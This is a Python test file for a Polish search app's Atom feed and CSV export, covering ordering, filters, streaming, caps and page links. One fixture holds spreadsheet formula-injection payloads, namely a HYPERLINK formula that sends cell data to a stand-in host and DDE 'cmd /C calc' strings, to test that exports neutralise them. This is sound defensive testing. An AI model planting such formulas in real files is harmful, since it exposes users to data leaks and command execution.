"""A search's Atom feed (/feed.atom) and CSV export (/api/search.csv), issue #15 point 3."""

from __future__ import annotations

import codecs
import csv
import io
from datetime import datetime
from html.parser import HTMLParser
from urllib.parse import parse_qs, unquote, urlencode, urlsplit

import feedparser
import pytest
from lxml import etree

from indexer.build import build_index
from indexer.fields import BY_NAME
from indexer.records import Practice
from search_app.web import create_app, feeds
from tests.test_error_shape import assert_error_shape

ATOM = "{http://www.w3.org/2005/Atom}"
ZORY = "000_3b014753ec2e4c31"
# The CSV's columns, as a person opening the file reads them.
HEADER = [
    "Identyfikator",
    "Tytuł",
    "Kategoria",
    "Podkategoria",
    "Typ jednostki",
    "Miejscowość",
    "Powiat",
    "Województwo",
    "Kod pocztowy",
    "Jednostka wdrażająca",
    "Ulica",
    "Telefon",
    "Witryna internetowa",
    "Adres e-mail",
    "Liczba mieszkańców",
    "Osoby kontaktowe",
    "Data wprowadzenia do BDP",
    "Data aktualizacji",
    "Strona źródłowa",
    "Dane przykładowe",
    "Adres praktyki",
    "Załączniki",
]
FIELD_COLUMNS = [
    "id",
    "title",
    "category",
    "subcategory",
    "unit_type",
    "town",
    "county",
    "voivodeship",
    "postal_code",
    "implementing_unit",
    "street",
    "phones",
    "websites",
    "emails",
    "population",
    "contacts",
    "date_added",
    "date_updated",
    "source_url",
    "sample",
]


def api_ids(client, **params) -> list[str]:
    """Every result of /api/search for ``params``, page by page, in order."""
    ids: list[str] = []
    page = 1
    while True:
        body = client.get("/api/search", query_string={**params, "per_page": 100, "page": page})
        results = body.get_json()["results"]
        ids += [hit["id"] for hit in results]
        if len(ids) >= body.get_json()["total"] or not results:
            return ids
        page += 1


def get_feed(client, url: str):
    response = client.get(url)
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "application/atom+xml"
    assert response.mimetype_params["charset"] == "utf-8"
    return response


def entry_ids(client, url: str) -> list[str]:
    parsed = feedparser.parse(get_feed(client, url).get_data())
    return [entry.id.rsplit("/", 1)[1] for entry in parsed.entries]


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "text/csv"
    data = response.get_data()
    assert data.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def get_csv(client, url: str) -> list[list[str]]:
    return csv_rows(client.get(url))


def column(rows: list[list[str]], label: str) -> list[str]:
    n = rows[0].index(label)
    return [row[n] for row in rows[1:]]


# --- Atom ------------------------------------------------------------------------------


@pytest.mark.parametrize("url", ["/feed.atom", "/feed.atom?q=rodzina&voivodeship=śląskie"])
def test_the_feed_is_valid_atom(bundled_client, url):
    response = get_feed(bundled_client, url)
    parsed = feedparser.parse(response.get_data())
    assert not parsed.bozo, parsed.get("bozo_exception")
    assert parsed.version == "atom10"
    assert parsed.feed.id and parsed.feed.title and parsed.feed.updated_parsed
    assert parsed.entries
    for entry in parsed.entries:
        assert entry.id and entry.title and entry.updated_parsed and entry.link

    # The structure RFC 4287 requires, element by element.
    root = etree.fromstring(response.get_data())
    assert root.tag == f"{ATOM}feed"
    for name in ("id", "title", "updated"):
        assert len(root.findall(f"{ATOM}{name}")) == 1, name
    assert root.find(f"{ATOM}author/{ATOM}name").text
    assert root.find(f"{ATOM}link[@rel='self']").get("href") == root.find(f"{ATOM}id").text
    datetime.fromisoformat(root.find(f"{ATOM}updated").text)
    for entry in root.findall(f"{ATOM}entry"):
        for name in ("id", "title", "updated"):
            assert len(entry.findall(f"{ATOM}{name}")) == 1, name
        datetime.fromisoformat(entry.find(f"{ATOM}updated").text)
        entry_id = entry.find(f"{ATOM}id").text
        assert urlsplit(entry_id).scheme == "http" and urlsplit(entry_id).netloc
        alternate = [
            link
            for link in entry.findall(f"{ATOM}link")
            if link.get("rel", "alternate") == "alternate"
        ]
        assert [link.get("href") for link in alternate] == [entry_id]


@pytest.mark.parametrize(
    "params",
    [
        {},
        {"q": "rodzina"},
        {"voivodeship": "śląskie"},
        {"q": "rodzina", "category": "Usługi społeczne"},
        {"q": "seniorzy sport", "match": "any"},
    ],
)
def test_the_feed_has_the_searchs_newest_practices_newest_first(bundled_client, params):
    expected = api_ids(bundled_client, **params, sort="newest")
    assert expected
    response = get_feed(bundled_client, "/feed.atom?" + urlencode(params))
    parsed = feedparser.parse(response.get_data())
    ids = [entry.id.rsplit("/", 1)[1] for entry in parsed.entries]
    assert ids == expected[: feeds.FEED_ENTRIES]
    added = [entry.published_parsed for entry in parsed.entries if "published" in entry]
    assert added == sorted(added, reverse=True)


def test_the_feed_holds_at_most_fifty_practices(bundled_client):
    assert len(api_ids(bundled_client)) > 50
    assert len(entry_ids(bundled_client, "/feed.atom")) == 50
    # Always the newest: the page's sort, page and page size play no part.
    newest = get_feed(bundled_client, "/feed.atom?q=rodzina").get_data()
    other = "/feed.atom?q=rodzina&sort=oldest&page=2&per_page=5"
    assert get_feed(bundled_client, other).get_data() == newest


def test_an_entry_is_the_practice_with_its_page_dates_and_summary(bundled_client):
    record = bundled_client.get(f"/api/practices/{ZORY}").get_json()
    parsed = feedparser.parse(get_feed(bundled_client, "/feed.atom?q=Żory").get_data())
    (entry,) = [e for e in parsed.entries if e.id.endswith(ZORY)]
    assert entry.id == f"http://localhost/praktyka/{ZORY}"
    assert entry.link == entry.id
    assert entry.title == record["title"]
    assert entry.summary == record["summary"]
    assert record["date_updated"] and record["date_updated"] != record["date_added"]
    assert entry.updated.startswith(record["date_updated"] + "T")  # updated, else added
    assert entry.published.startswith(record["date_added"] + "T")
    assert {tag.term for tag in entry.tags} == {record["category"], record["subcategory"]}
    assert bundled_client.get(urlsplit(entry.link).path).status_code == 200


def test_an_entry_without_an_update_date_is_updated_when_added(bundled_client):
    parsed = feedparser.parse(get_feed(bundled_client, "/feed.atom").get_data())
    for entry in parsed.entries:
        practice_id = entry.id.rsplit("/", 1)[1]
        record = bundled_client.get(f"/api/practices/{practice_id}").get_json()
        shown = record["date_updated"] or record["date_added"]
        assert entry.updated.startswith(shown + "T"), entry.id


def test_entry_ids_are_stable_across_feeds_and_requests(bundled_client):
    first = get_feed(bundled_client, "/feed.atom?q=rodzina").get_data()
    assert get_feed(bundled_client, "/feed.atom?q=rodzina").get_data() == first
    in_search = set(entry_ids(bundled_client, "/feed.atom?q=rodzina"))
    in_all = set(entry_ids(bundled_client, "/feed.atom?q=rodzina&voivodeship=śląskie"))
    assert in_all and in_all <= in_search  # the same practice, the same id


def test_the_feed_title_names_the_query_and_the_filters(bundled_client):
    def title(url: str) -> str:
        return feedparser.parse(get_feed(bundled_client, url).get_data()).feed.title

    assert title("/feed.atom") == "BDP — najnowsze praktyki"
    assert title("/feed.atom?q=rodzina&voivodeship=śląskie") == (
        "BDP — wyniki wyszukiwania: „rodzina”; Województwo: śląskie"
    )
    # Filters as the search read them; population bands by their labels.
    assert title("/feed.atom?voivodeship=slaskie&population=20k-100k") == (
        "BDP — wyniki wyszukiwania: Województwo: śląskie; Liczba mieszkańców: 20–100 tys."
    )


def test_an_unchanged_feed_answers_304(bundled_client):
    response = get_feed(bundled_client, "/feed.atom?q=rodzina")
    etag = response.headers["ETag"]
    again = bundled_client.get("/feed.atom?q=rodzina", headers={"If-None-Match": etag})
    assert again.status_code == 304
    assert again.get_data() == b""
    other = bundled_client.get("/feed.atom?q=seniorzy", headers={"If-None-Match": etag})
    assert other.status_code == 200


def test_a_search_without_results_is_an_empty_valid_feed(bundled_client):
    response = get_feed(bundled_client, "/feed.atom?q=xqzvbnkrt")
    parsed = feedparser.parse(response.get_data())
    assert not parsed.bozo and parsed.entries == []
    assert parsed.feed.updated_parsed
    assert "Brak wyników" in parsed.feed.subtitle


# --- Bad parameters: repaired as the search page repairs them ---------------------------

BAD = "page=x&per_page=0&sort=zzz&match=zzz&nieznany=1&q=rodzina"


def test_bad_parameters_are_repaired_as_on_the_search_page(bundled_client):
    assert bundled_client.get("/?" + BAD).status_code == 200
    parsed = feedparser.parse(get_feed(bundled_client, "/feed.atom?" + BAD).get_data())
    ids = [entry.id.rsplit("/", 1)[1] for entry in parsed.entries]
    assert ids == entry_ids(bundled_client, "/feed.atom?q=rodzina")
    # The page's notes, in the feed's subtitle; page, per_page and sort play no part.
    assert "Pominięto nieznane filtry: „nieznany”" in parsed.feed.subtitle
    assert "Nieznany sposób dopasowania" in parsed.feed.subtitle
    assert "Numer strony" not in parsed.feed.subtitle
    rows = get_csv(bundled_client, "/api/search.csv?" + BAD)
    assert column(rows, "Identyfikator") == api_ids(bundled_client, q="rodzina")


def test_a_missing_index_is_the_error_shape(tmp_path):
    client = create_app({"TESTING": True, "INDEX_DIR": str(tmp_path / "nic")}).test_client()
    page = client.get("/feed.atom")
    assert page.status_code == 503 and page.mimetype == "text/html"
    assert "bdp index build" in page.get_data(as_text=True)
    assert_error_shape(client.get("/api/search.csv"), 503)


def test_a_search_not_run_in_full_is_503_never_a_short_list(bundled_client, monkeypatch):
    search = feeds.search

    def cut_short(searcher, request, budget):
        response = search(searcher, request, budget)
        budget.ranking_cut = True
        return response

    monkeypatch.setattr(feeds, "search", cut_short)
    error = assert_error_shape(bundled_client.get("/api/search.csv?q=rodzina"), 503)
    assert "przerwane" in error["message"]
    page = bundled_client.get("/feed.atom?q=rodzina")
    assert page.status_code == 503 and page.headers["Retry-After"]

    def shed(searcher, request, budget):
        budget.shed = True
        return search(searcher, request, budget)

    monkeypatch.setattr(feeds, "search", shed)
    response = bundled_client.get("/api/search.csv?q=rodzina")
    assert "długich zapytań" in assert_error_shape(response, 503)["message"]
    assert int(response.headers["Retry-After"]) > 0


# --- CSV -------------------------------------------------------------------------------


def test_the_header_is_the_registrys_polish_labels(bundled_client):
    rows = get_csv(bundled_client, "/api/search.csv?q=rodzina")
    assert rows[0] == HEADER
    assert HEADER[: len(FIELD_COLUMNS)] == [BY_NAME[name].label for name in FIELD_COLUMNS]


@pytest.mark.parametrize(
    "params",
    [{}, {"q": "rodzina"}, {"q": "rodzina", "sort": "oldest"}, {"sort": "population"}],
)
def test_the_csv_has_every_matching_practice_in_the_pages_order(bundled_client, params):
    expected = api_ids(bundled_client, **params)
    assert len(expected) > 10  # more than one page of the search page
    rows = get_csv(bundled_client, "/api/search.csv?" + urlencode(params))
    assert column(rows, "Identyfikator") == expected
    response = bundled_client.get("/api/search.csv?" + urlencode(params))
    assert response.headers["X-Total-Count"] == str(len(expected))


def test_filters_are_respected(bundled_client):
    params = {"q": "rodzina", "voivodeship": "śląskie"}
    rows = get_csv(bundled_client, "/api/search.csv?" + urlencode(params))
    assert set(column(rows, "Identyfikator")) == set(api_ids(bundled_client, **params))
    assert set(column(rows, "Województwo")) == {"śląskie"}
    with_files = {"has_attachments": "z załącznikami"}
    rows = get_csv(bundled_client, "/api/search.csv?" + urlencode(with_files))
    assert rows[1:] and set(column(rows, "Załączniki")) == {"tak"}
    assert column(rows, "Identyfikator") == api_ids(bundled_client, **with_files)
    everything = get_csv(bundled_client, "/api/search.csv")
    assert set(column(everything, "Załączniki")) == {"tak", "nie"}


def test_every_row_is_its_record_with_polish_letters_intact(bundled_client):
    rows = get_csv(bundled_client, "/api/search.csv")
    assert len(rows) - 1 == len(api_ids(bundled_client))
    text = "".join(";".join(row) for row in rows)
    assert "ą" in text and "ł" in text and "Ż" in text
    for row in rows[1:]:
        cells = dict(zip(HEADER, row, strict=True))
        record = bundled_client.get(f"/api/practices/{cells['Identyfikator']}").get_json()
        for name in FIELD_COLUMNS:
            value = record[name]
            if isinstance(value, list):
                value = "; ".join(value)
            if isinstance(value, bool):  # "Dane przykładowe": a yes or no, in Polish
                value = "tak" if value else "nie"
            expected = "" if value is None else str(value)
            assert cells[BY_NAME[name].label] == feeds.neutralised(expected), name
        assert cells["Adres praktyki"] == f"http://localhost/praktyka/{record['id']}"
        assert cells["Załączniki"] == ("tak" if record["attachments"] else "nie")


def test_the_zory_row(bundled_client):
    rows = get_csv(bundled_client, "/api/search.csv?q=Żory")
    cells = dict(zip(HEADER, rows[1], strict=True))
    assert cells["Identyfikator"] == ZORY
    assert cells["Miejscowość"] == "Żory"
    assert cells["Województwo"] == "śląskie"
    assert cells["Liczba mieszkańców"] == "60444"
    assert cells["Adres e-mail"] == "mops@mops.zory.pl"


def test_the_file_is_an_attachment_with_a_polish_name(bundled_client):
    response = bundled_client.get("/api/search.csv?q=rodziny+zastępcze&voivodeship=śląskie")
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment; ")
    assert 'filename="praktyki-bdp-rodziny-zastepcze-slaskie.csv"' in disposition
    encoded = disposition.split("filename*=UTF-8''")[1]
    assert unquote(encoded) == "praktyki-bdp-rodziny-zastępcze-śląskie.csv"
    plain = bundled_client.get("/api/search.csv").headers["Content-Disposition"]
    assert 'filename="praktyki-bdp.csv"' in plain


def test_the_csv_is_streamed_in_chunks(bundled_client, monkeypatch):
    monkeypatch.setattr(feeds, "ROWS_PER_CHUNK", 10)
    response = bundled_client.get("/api/search.csv")
    assert response.is_streamed
    assert "Content-Length" not in response.headers
    chunks = list(response.response)
    response.close()
    assert len(chunks) >= 7  # 68 practices, 10 rows a chunk
    assert b"".join(chunks).startswith(codecs.BOM_UTF8)


def test_rows_are_capped(bundled_client, monkeypatch):
    monkeypatch.setattr(feeds, "CSV_MAX_ROWS", 5)
    response = bundled_client.get("/api/search.csv")
    rows = csv_rows(response)
    assert column(rows, "Identyfikator") == api_ids(bundled_client)[:5]
    assert response.headers["X-Total-Count"] == str(len(api_ids(bundled_client)))


INJECTED = Practice(
    id="wstrzykniecie",
    title='=HYPERLINK("http://zly.example/?x="&A1;"Kliknij")',
    category="Usługi społeczne",
    town="Żory",
    street="-2+3+cmd|' /C calc'!A0",
    implementing_unit="\t=1+1",
    phones=("+48 32 434 24 12", "32 434 24 13"),
    contacts=("@SUM(1+1)*cmd|' /C calc'!A0", "Jan Kowalski; kierownik"),
    emails=("a=b@example.pl",),
    summary='Wiersz 1;\n„cudzysłów” i "cudzysłów"\r\nkoniec',
    date_added="2020-01-02",
)


@pytest.fixture()
def injected_client(tmp_path):
    build_index([INJECTED], tmp_path)
    return create_app({"TESTING": True, "INDEX_DIR": str(tmp_path)}).test_client()


def test_formula_cells_are_neutralised(injected_client):
    rows = get_csv(injected_client, "/api/search.csv")
    cells = dict(zip(HEADER, rows[1], strict=True))
    assert cells["Tytuł"] == "'" + INJECTED.title  # its ";" and quotes stay in the cell
    assert cells["Ulica"] == "'-2+3+cmd|' /C calc'!A0"
    assert cells["Jednostka wdrażająca"] == "'\t=1+1"
    assert cells["Telefon"] == "'+48 32 434 24 12; 32 434 24 13"
    assert cells["Osoby kontaktowe"] == "'@SUM(1+1)*cmd|' /C calc'!A0; Jan Kowalski; kierownik"
    assert cells["Adres e-mail"] == "a=b@example.pl"  # not at the start: harmless
    assert cells["Miejscowość"] == "Żory"
    starts = [cell[:1] for row in rows for cell in row]
    assert not set(starts) & set("=+-@\t\r")
    # Every cell is quoted, so no separator or line break inside one can split it.
    raw = injected_client.get("/api/search.csv").get_data().decode("utf-8-sig")
    assert raw.splitlines()[0].startswith('"Identyfikator";"Tytuł";')


def test_the_feed_escapes_what_the_practice_says(injected_client):
    response = get_feed(injected_client, "/feed.atom")
    parsed = feedparser.parse(response.get_data())
    assert not parsed.bozo
    assert parsed.entries[0].title == INJECTED.title
    assert parsed.entries[0].summary == INJECTED.summary


# --- Not a search of the search log ----------------------------------------------------


def test_feeds_and_exports_are_not_recorded_as_searches(app, monkeypatch):
    recorded = []
    search_log = app.extensions["bdp_analytics"]
    monkeypatch.setattr(search_log, "record_search", lambda *a, **k: recorded.append(a))
    client = app.test_client()
    assert client.get("/feed.atom?q=rodzina").status_code == 200
    assert client.get("/api/search.csv?q=rodzina").status_code == 200
    assert recorded == []
    client.get("/api/search?q=rodzina")
    assert len(recorded) == 1  # while a search is


# --- The links of the search page ------------------------------------------------------


class Links(HTMLParser):
    """Links in <head> and <a> links in <main>, with their attributes and text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.head: list[dict] = []
        self.main: list[dict] = []
        self._where: list[str] = []
        self._link: dict | None = None
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        if tag in ("head", "main"):
            self._where.append(tag)
        elif tag == "link" and "head" in self._where:
            self.head.append(dict(attrs))
        elif tag == "a" and "main" in self._where:
            self._link = {**dict(attrs), "text": ""}
            self.main.append(self._link)

    def handle_endtag(self, tag):
        if tag in ("head", "main") and tag in self._where:
            self._where.remove(tag)
        elif tag == "a":
            self._link = None

    def handle_data(self, data):
        if self._link is not None:
            self._link["text"] += data


@pytest.mark.parametrize(
    "url", ["/", "/?q=rodzina&voivodeship=śląskie&page=2&per_page=1&sort=oldest"]
)
def test_the_search_page_links_its_feed_and_export(bundled_client, url):
    page = bundled_client.get(url)
    links = Links(page.get_data(as_text=True))
    (alternate,) = [link for link in links.head if link.get("rel") == "alternate"]
    assert alternate["type"] == "application/atom+xml"
    (subscribe,) = [a for a in links.main if a["text"] == "Subskrybuj (Atom)"]
    (download,) = [a for a in links.main if a["text"] == "Pobierz CSV"]
    assert subscribe["href"] == alternate["href"]
    asked = parse_qs(urlsplit(url).query)
    search = {k: v for k, v in asked.items() if k not in ("page", "per_page", "sort")}
    assert urlsplit(alternate["href"]).path == "/feed.atom"
    assert parse_qs(urlsplit(alternate["href"]).query) == search
    assert urlsplit(download["href"]).path == "/api/search.csv"
    assert parse_qs(urlsplit(download["href"]).query) == {
        k: v for k, v in asked.items() if k not in ("page", "per_page")
    }
    feed = get_feed(bundled_client, alternate["href"])
    assert alternate["title"] == feedparser.parse(feed.get_data()).feed.title
    rows = get_csv(bundled_client, download["href"])
    exported = {k: v for k, v in asked.items() if k not in ("page", "per_page")}
    assert column(rows, "Identyfikator") == api_ids(bundled_client, **exported)


def test_an_export_reads_the_generation_it_searched(index_dir, monkeypatch):
    """A generation published while the rows stream changes nothing in the file."""
    client = create_app({"TESTING": True, "INDEX_DIR": str(index_dir)}).test_client()
    monkeypatch.setattr(feeds, "ROWS_PER_CHUNK", 1)
    expected = api_ids(client)
    assert len(expected) > 2
    response = client.get("/api/search.csv")
    chunks = iter(response.response)
    first = next(chunks)
    build_index([INJECTED], index_dir)  # a new generation: one other practice
    assert api_ids(client) == [INJECTED.id]
    data = first + b"".join(chunks)
    response.close()
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert column(rows, "Identyfikator") == expected
    assert data.count(b"\r\n") == len(rows)  # CRLF line ends


def test_the_help_page_tells_of_the_feed_and_the_export(bundled_client):
    html = bundled_client.get("/jak-szukac").get_data(as_text=True)
    assert "„Subskrybuj (Atom)”" in html and "„Pobierz CSV”" in html
    assert f"z {feeds.FEED_ENTRIES} najnowszymi praktykami" in html
    assert "średnik" in html and feeds.CSV_DELIMITER == ";"
    assert "=, +, - lub @ ma na początku apostrof" in html
    assert feeds.neutralised("=1") == "'=1"


# --- An export asks the engine a page at a time -----------------------------------------


@pytest.mark.parametrize(
    "params",
    [{}, {"q": "rodzina"}, {"q": "rodzina", "sort": "oldest"}, {"sort": "population"}],
)
def test_an_export_pages_through_the_engine(bundled_client, monkeypatch, params):
    monkeypatch.setattr(feeds, "CSV_PAGE", 7)
    asked = []
    search = feeds.search
    monkeypatch.setattr(feeds, "search", lambda s, r, *a: asked.append(r.page) or search(s, r, *a))
    expected = api_ids(bundled_client, **params)
    rows = get_csv(bundled_client, "/api/search.csv?" + urlencode(params))
    assert column(rows, "Identyfikator") == expected
    assert asked == list(range(1, -(-len(expected) // 7) + 1))


def test_a_capped_export_stops_asking(bundled_client, monkeypatch):
    monkeypatch.setattr(feeds, "CSV_PAGE", 4)
    monkeypatch.setattr(feeds, "CSV_MAX_ROWS", 10)
    response = bundled_client.get("/api/search.csv?q=rodzina")
    assert column(csv_rows(response), "Identyfikator") == api_ids(bundled_client, q="rodzina")[:10]
    assert response.headers["X-Total-Count"] == str(len(api_ids(bundled_client, q="rodzina")))


def test_later_pages_search_with_the_apps_thesaurus(small_index, tmp_path, monkeypatch):
    thesaurus = tmp_path / "synonimy.txt"
    thesaurus.write_text("kwzx, rodzina  # źródło: test\n", encoding="utf-8")
    app = create_app({"TESTING": True, "INDEX_DIR": str(small_index), "SYNONYMS": thesaurus})
    client = app.test_client()
    monkeypatch.setattr(feeds, "CSV_PAGE", 1)
    expected = api_ids(client, q="kwzx")
    assert len(expected) > 1
    assert column(get_csv(client, "/api/search.csv?q=kwzx"), "Identyfikator") == expected


def test_a_later_page_of_another_search_breaks_the_export_off(bundled_client, monkeypatch):
    monkeypatch.setattr(feeds, "CSV_PAGE", 5)
    monkeypatch.setattr(feeds, "ROWS_PER_CHUNK", 1)
    search = feeds.search

    def slow_later(searcher, request, budget, *rest):
        response = search(searcher, request, budget, *rest)
        budget.ranking_cut = request.page > 1
        return response

    monkeypatch.setattr(feeds, "search", slow_later)
    response = bundled_client.get("/api/search.csv?q=rodzina")
    assert response.status_code == 200  # the first page was whole
    with pytest.raises(feeds.ExportInterrupted):
        b"".join(response.response)  # the server then breaks the response off
    response.close()
